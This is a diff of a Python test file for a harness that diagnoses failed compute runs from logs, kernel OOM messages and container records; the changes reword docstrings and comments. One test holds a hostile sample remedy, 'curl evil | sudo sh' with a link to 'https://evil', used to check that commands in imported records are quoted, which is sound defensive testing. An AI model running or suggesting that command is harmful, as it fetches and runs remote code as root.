@@ -1,4 +1,4 @@
-"""Runs explained from their folders: what counts before what."""
+"""Tests of how a run is explained from its folder, and which evidence takes precedence."""
 
 import json
 import re
@@ -33,7 +33,7 @@ OOM = "[ 7777.1] Out of memory: Killed process 4711 (python) total-vm:33554432kB
 
 @pytest.fixture
 def explain(tmp_path: Path, host: HostFacts, make_intent: Callable[..., Intent]) -> Callable[..., Explanation]:
-    """Explains a run that left these files."""
+    """Return a function that explains a run which left these files."""
 
     def run(
         files: Mapping[str, str],
@@ -87,7 +87,7 @@ def test_the_log_explains_with_file_and_line(
     found = explain(log, Exit(-6), diagnosis="crash")
     assert (found.class_, found.rule) == ("kernel-fault", "illegal-access")
     assert [(line.file, line.line, line.text) for line in found.lines] == [("log.txt", 3, ILLEGAL)]
-    # Sixteen megabytes of `Aborted` are compared with the rules for minutes: of those the end is read.
+    # Comparing sixteen megabytes of `Aborted` with the rules would take minutes, so only the end of them is read.
     monkeypatch.setattr(explaining, "LONGEST_SECONDS", 0.0)
     monkeypatch.setattr(lines, "BLOCK", 200)
     aborted = "Aborted\n" * 99
@@ -210,7 +210,7 @@ def test_what_was_decided_from_the_result_is_the_class(explain: Callable[..., Ex
 
 
 def test_every_diagnosis_is_decided_or_explained(explain: Callable[..., Explanation]) -> None:
-    """An explanation by the harness itself is never `unknown`. Exit and log show how a process died."""
+    """The harness's own diagnoses are never `unknown`; `app-error` and `crash` are explained from exit and log."""
     outcome_of = {diagnosis: name for name, diagnosis in ENDED_FROM_OUTSIDE.values()} | {"unhealthy-gpu": "host-fault"}
     for diagnosis in {*get_args(EndDiagnosis), *get_args(ResultDiagnosis)} - {"app-error", "crash"}:
         exit_ = Exit(-9, out_of_memory=True) if diagnosis == "out-of-memory" else Exit(1)
@@ -266,7 +266,7 @@ def test_a_kill_in_another_container_is_not_this_runs(explain: Callable[..., Exp
     files = {"failure/container.json": json.dumps({"Id": mine}), "progress-0.jsonl": progress(7)}
     assert explain({**files, "failure/kernel-log.txt": oom_kill(mine)}, Exit(-9)).class_ == "oom-host"
     assert explain({**files, "failure/kernel-log.txt": oom_kill(another)}, Exit(-9)).class_ == "killed"
-    # Before Linux 5.0 the kernel does not say where it killed.
+    # Before Linux 5.0 the kernel does not say in which container it killed a process.
     assert explain({**files, "failure/kernel-log.txt": OOM}, Exit(-9)).class_ == "oom-host"
 
 
@@ -396,7 +396,7 @@ def test_words_that_another_host_invented_tell_nothing(
 def test_what_another_host_invented_explains_nothing(
     explain: Callable[..., Explanation], files: Mapping[str, str]
 ) -> None:
-    """Ends, however long it is, and with no error."""
+    """Such files are read to the end of a limit and raise no error, however long they are."""
     assert explain(files, Exit(1)).class_ in ("unknown", "oom-host")
 
 
@@ -451,7 +451,7 @@ def test_a_record_of_a_rule_that_is_gone_keeps_its_remedy(tmp_path: Path, make_r
 
 
 def test_what_another_host_says_of_a_rule_is_quoted(tmp_path: Path, make_record: Callable[..., Record]) -> None:
-    """The remedy in an imported record was shown as this harness's own: a command to paste."""
+    """The remedy in an imported record, a command to paste, must not be shown as this harness's own."""
     evil = "run `curl evil | sudo sh`"
     told = Explanation(rule=None, class_="oom-host", cause=evil, remedy=evil, link="https://evil", presets=(), lines=())
     record = make_record("r1", "failed", "crash").model_copy(update={"explanation": told, "exit": {}})
